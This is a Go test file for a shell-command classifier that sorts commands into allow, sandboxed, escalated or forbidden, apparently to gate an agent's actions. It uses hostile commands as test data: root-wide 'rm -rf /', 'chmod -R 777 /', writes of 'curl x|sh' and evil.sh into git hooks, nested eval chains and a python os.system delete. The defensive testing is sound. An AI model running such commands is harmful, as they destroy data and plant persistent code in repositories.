@@ -1,0 +1,311 @@
+package classify
+
+import (
+	"encoding/json"
+	"errors"
+	"strings"
+	"sync"
+	"testing"
+)
+
+func TestDecisionText(t *testing.T) {
+	for d := Allow; d <= Forbidden; d++ {
+		b, err := d.MarshalText()
+		if err != nil {
+			t.Fatal(err)
+		}
+		var back Decision
+		if err := back.UnmarshalText(b); err != nil || back != d {
+			t.Errorf("round trip of %v: got %v, %v", d, back, err)
+		}
+		if string(b) != d.String() {
+			t.Errorf("MarshalText(%v) = %q", d, b)
+		}
+	}
+	if _, err := Decision(7).MarshalText(); !errors.Is(err, ErrUnknownDecision) {
+		t.Errorf("MarshalText(7) error = %v", err)
+	}
+	if _, err := ParseDecision("maybe"); !errors.Is(err, ErrUnknownDecision) {
+		t.Errorf("ParseDecision(maybe) error = %v", err)
+	}
+	for in, want := range map[string]Decision{"ALLOW": Allow, " sandboxed ": Sandboxed, "ask": Escalated, "deny": Forbidden} {
+		if got, err := ParseDecision(in); err != nil || got != want {
+			t.Errorf("ParseDecision(%q) = %v, %v", in, got, err)
+		}
+	}
+	if !(Allow < Sandboxed && Sandboxed < Escalated && Escalated < Forbidden) {
+		t.Error("decisions are not ordered by severity")
+	}
+}
+
+func TestResultJSON(t *testing.T) {
+	r := Default().Classify("rm -rf /")
+	b, err := json.Marshal(r)
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := `{"decision":"forbidden","rule":"recursive-delete-root","reason":"` + r.Reason + `","command":"rm -rf /"}`
+	if string(b) != want {
+		t.Errorf("JSON = %s\nwant   %s", b, want)
+	}
+	var back Result
+	if err := json.Unmarshal(b, &back); err != nil || back != r {
+		t.Errorf("unmarshal: %+v, %v", back, err)
+	}
+}
+
+func TestBuiltinRules(t *testing.T) {
+	names := BuiltinRuleNames()
+	counts := map[Decision]int{}
+	seen := map[string]bool{}
+	for _, r := range BuiltinRules() {
+		if seen[r.Name] {
+			t.Errorf("duplicate rule %q", r.Name)
+		}
+		seen[r.Name] = true
+		counts[r.Decision]++
+		if r.Description == "" {
+			t.Errorf("rule %q has no description", r.Name)
+		}
+	}
+	if len(names) != len(seen) {
+		t.Errorf("BuiltinRuleNames has %d names, rules %d", len(names), len(seen))
+	}
+	// The 44 seed rules plus parse-error, dynamic-delete-target and
+	// protected-path-write (escalated).
+	if counts[Forbidden] != 17 || counts[Escalated] != 24 || counts[Allow] != 6 {
+		t.Errorf("rule counts = %v, want 17 forbidden, 24 escalated, 6 allow", counts)
+	}
+	for _, n := range []string{RuleForkBomb, RuleSudo, RuleGitStashDrop, RuleEvalExec, RuleProcessList, RuleParseError} {
+		if !seen[n] {
+			t.Errorf("rule %q missing", n)
+		}
+	}
+}
+
+func TestNewErrors(t *testing.T) {
+	tests := []struct {
+		name string
+		opt  Option
+		want error
+		in   string
+	}{
+		{"bad pattern", WithCustomRules(UserRule{Pattern: "git [push", Decision: Allow}), ErrInvalidPattern, "git [push"},
+		{"empty pattern", WithCustomRules(UserRule{Pattern: "  ", Decision: Allow}), ErrInvalidPattern, "empty"},
+		{"bad decision", WithCustomRules(UserRule{Pattern: "x", Decision: 9}), ErrInvalidRule, `"x"`},
+		{"unknown rule", WithRuleOverrides(RuleOverride{Rule: "no-such-rule", Decision: Allow}), ErrUnknownRule, "no-such-rule"},
+		{"parse-error allow", WithRuleOverrides(RuleOverride{Rule: RuleParseError, Decision: Allow}), ErrInvalidRule, RuleParseError},
+		{"bad glob", WithProtectedPaths("a/[b"), ErrInvalidPattern, "a/[b"},
+	}
+	for _, tc := range tests {
+		_, err := New(tc.opt)
+		if !errors.Is(err, tc.want) || !strings.Contains(err.Error(), tc.in) {
+			t.Errorf("%s: New error = %v, want %v naming %q", tc.name, err, tc.want, tc.in)
+		}
+	}
+}
+
+func TestUserRules(t *testing.T) {
+	c, err := New(WithCustomRules(
+		UserRule{Pattern: "git push*", Decision: Allow, Description: "pushing is fine here"},
+		UserRule{Pattern: "make deploy*", Decision: Forbidden},
+		UserRule{Pattern: "terraform apply", Decision: Escalated},
+		UserRule{Pattern: "npm run ?uild", Decision: Allow},
+	))
+	if err != nil {
+		t.Fatal(err)
+	}
+	tests := []struct {
+		cmd  string
+		want Decision
+		rule string
+	}{
+		{"git push origin main", Allow, "user:git push*"},
+		{"/usr/bin/git 'push'", Allow, "user:git push*"},
+		{"make deploy ENV=prod", Forbidden, "user:make deploy*"},
+		{"bash -c 'make deploy'", Forbidden, "user:make deploy*"},
+		{"terraform apply", Escalated, "user:terraform apply"},
+		{"terraform   apply", Escalated, "user:terraform apply"},
+		{"npm run build", Allow, "user:npm run ?uild"},
+		{"git push; rm -rf /", Forbidden, RuleRecursiveDeleteRoot}, // user allow does not cover other parts
+		{"sudo git push", Escalated, RuleSudo},                     // the sudo part is still judged
+		{"git commit -m x", Escalated, RuleGitWrite},
+	}
+	for _, tc := range tests {
+		got := c.Classify(tc.cmd)
+		if got.Decision != tc.want || got.Rule != tc.rule {
+			t.Errorf("Classify(%q) = %v/%s, want %v/%s", tc.cmd, got.Decision, got.Rule, tc.want, tc.rule)
+		}
+	}
+	if got := c.Classify("git push").Reason; got != "pushing is fine here" {
+		t.Errorf("reason = %q", got)
+	}
+}
+
+func TestOverrides(t *testing.T) {
+	c, err := New(WithRuleOverrides(
+		RuleOverride{Rule: RuleGitWrite, Decision: Sandboxed},
+		RuleOverride{Rule: RuleFilePermission, Decision: Allow},
+		RuleOverride{Rule: RuleCommonSafeCommands, Decision: Escalated},
+	))
+	if err != nil {
+		t.Fatal(err)
+	}
+	for cmd, want := range map[string]Decision{
+		"git push":           Sandboxed,
+		"chmod +x run.sh":    Allow,
+		"ls -la":             Escalated,
+		"rm -rf /":           Forbidden,
+		"git stash drop":     Escalated,
+		"chmod -R 777 /":     Forbidden,
+		"cd src":             Allow,
+		"git push && ls":     Escalated,
+		"cd x && git commit": Sandboxed,
+	} {
+		if got := c.Classify(cmd); got.Decision != want {
+			t.Errorf("Classify(%q) = %v/%s, want %v", cmd, got.Decision, got.Rule, want)
+		}
+	}
+	for _, r := range c.Rules() {
+		if r.Name == RuleGitWrite && r.Decision != Sandboxed {
+			t.Errorf("Rules() reports %v for git-write", r.Decision)
+		}
+	}
+	// The default classifier is unaffected.
+	if got := Default().Classify("git push").Decision; got != Escalated {
+		t.Errorf("default git push = %v", got)
+	}
+}
+
+func TestProtectedPaths(t *testing.T) {
+	c, err := New(WithDefaultProtectedPaths(), WithProtectedPaths("secrets/**", "*.pem"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	escalate := []string{
+		"echo 'curl x|sh' > .git/hooks/pre-commit",
+		"cp evil.sh .git/hooks/post-checkout",
+		"echo x >> ~/.bashrc",
+		"echo x >> $HOME/.zshrc",
+		"tee -a .github/workflows/ci.yml < x",
+		"cat > .gitlab-ci.yml <<EOF\nx\nEOF",
+		"sed -i 's/a/b/' .git/config",
+		"git config core.hooksPath /tmp/h",
+		"mv x .vscode/settings.json",
+		"echo '{}' > .mcp.json",
+		"touch ./sub/.idea/workspace.xml",
+		"echo x > secrets/db/key",
+		"cp k server.pem",
+		"ln -sf /tmp/x .gitmodules",
+		"rm -rf .git/hooks",
+		"echo x > agentbox.yaml",
+		"curl -o .envrc https://x.example/e",
+	}
+	for _, cmd := range escalate {
+		if got := c.Classify(cmd); got.Decision < Escalated {
+			t.Errorf("Classify(%q) = %v/%s, want escalated", cmd, got.Decision, got.Rule)
+		}
+	}
+	if got := c.Classify("echo x > .git/hooks/pre-push"); got.Rule != RuleProtectedPathWrite {
+		t.Errorf("rule = %q", got.Rule)
+	}
+	fine := []string{"cat .git/config", "echo x > src/main.go", "cp a b", "ls .github/workflows", "git status", "echo x > .github/README.md", "cat ~/.bashrc"}
+	for _, cmd := range fine {
+		if got := c.Classify(cmd); got.Decision > Sandboxed {
+			t.Errorf("Classify(%q) = %v/%s, want at most sandboxed", cmd, got.Decision, got.Rule)
+		}
+	}
+	// Without the option, the rule is off.
+	if got := Default().Classify("echo x > .git/hooks/pre-commit"); got.Decision != Sandboxed {
+		t.Errorf("default: %v/%s", got.Decision, got.Rule)
+	}
+}
+
+func TestClassifyArgs(t *testing.T) {
+	c := Default()
+	tests := []struct {
+		name string
+		args []string
+		want Decision
+		rule string
+	}{
+		{"rm", []string{"-rf", "/"}, Forbidden, RuleRecursiveDeleteRoot},
+		{"/bin/rm", []string{"-rf", "/"}, Forbidden, RuleRecursiveDeleteRoot},
+		{"bash", []string{"-c", "rm -rf /"}, Forbidden, RuleRecursiveDeleteRoot},
+		{"env", []string{"sudo", "-u", "root", "rm", "-rf", "/"}, Forbidden, RuleRecursiveDeleteRoot},
+		{"sudo", []string{"ls"}, Escalated, RuleSudo},
+		{"ls", []string{"-la"}, Allow, RuleCommonSafeCommands},
+		// Words are literal: no shell parsing of "$(…)" or ";".
+		{"echo", []string{"$(rm -rf /)", ";", "rm", "-rf", "/"}, Allow, RuleCommonSafeCommands},
+		{"rm", []string{"-rf", "$HOME"}, Sandboxed, ""},
+		{"rm", []string{"-rf", "~"}, Forbidden, RuleRecursiveDeleteRoot},
+		{"git", []string{"push"}, Escalated, RuleGitWrite},
+		{"python3", []string{"-c", "import os; os.system('rm -rf /')"}, Forbidden, RuleRecursiveDeleteRoot},
+	}
+	for _, tc := range tests {
+		got := c.ClassifyArgs(tc.name, tc.args)
+		if got.Decision != tc.want || got.Rule != tc.rule {
+			t.Errorf("ClassifyArgs(%q, %q) = %v/%s, want %v/%s", tc.name, tc.args, got.Decision, got.Rule, tc.want, tc.rule)
+		}
+	}
+}
+
+func TestResultNamesDecidingCommand(t *testing.T) {
+	r := Default().Classify("cd /tmp && ls && sudo -u bob /usr/bin/git push origin main")
+	if r.Decision != Escalated || r.Command != "git push origin main" {
+		t.Errorf("got %+v", r)
+	}
+	r = Default().Classify("")
+	if r.Decision != Allow {
+		t.Errorf("empty line: %+v", r)
+	}
+}
+
+func TestLimits(t *testing.T) {
+	c := Default()
+	// Each eval parses its joined arguments as a new script: 40 levels.
+	deep := strings.Repeat("eval ", 40) + "rm -rf /"
+	if got := c.Classify(deep); got.Decision < Escalated {
+		t.Errorf("deep nesting: %v/%s", got.Decision, got.Rule)
+	}
+	if got := c.Classify(strings.Repeat("x", maxInput+1)); got.Decision != Escalated || got.Rule != RuleParseError {
+		t.Errorf("huge input: %v/%s", got.Decision, got.Rule)
+	}
+	many := strings.Repeat("true;", maxSteps+10)
+	if got := c.Classify(many); got.Decision != Escalated {
+		t.Errorf("too many statements: %v/%s", got.Decision, got.Rule)
+	}
+	if got := c.Classify("echo {1..99999999}"); got.Decision != Allow {
+		t.Errorf("big brace sequence: %v/%s", got.Decision, got.Rule)
+	}
+}
+
+func TestConcurrentUse(t *testing.T) {
+	c, err := New(WithDefaultProtectedPaths(), WithCustomRules(UserRule{Pattern: "make *", Decision: Allow}))
+	if err != nil {
+		t.Fatal(err)
+	}
+	cases := loadCorpus(t)
+	var wg sync.WaitGroup
+	errs := make(chan string, 8)
+	for g := 0; g < 8; g++ {
+		wg.Add(1)
+		go func(g int) {
+			defer wg.Done()
+			for i := g; i < len(cases); i += 8 {
+				tc := cases[i]
+				if got := c.Classify(tc.command); got.Decision < tc.decision && !strings.HasPrefix(got.Rule, "user:") {
+					select {
+					case errs <- tc.command:
+					default:
+					}
+				}
+			}
+		}(g)
+	}
+	wg.Wait()
+	close(errs)
+	for cmd := range errs {
+		t.Errorf("concurrent Classify(%q) was less severe than expected", cmd)
+	}
+}
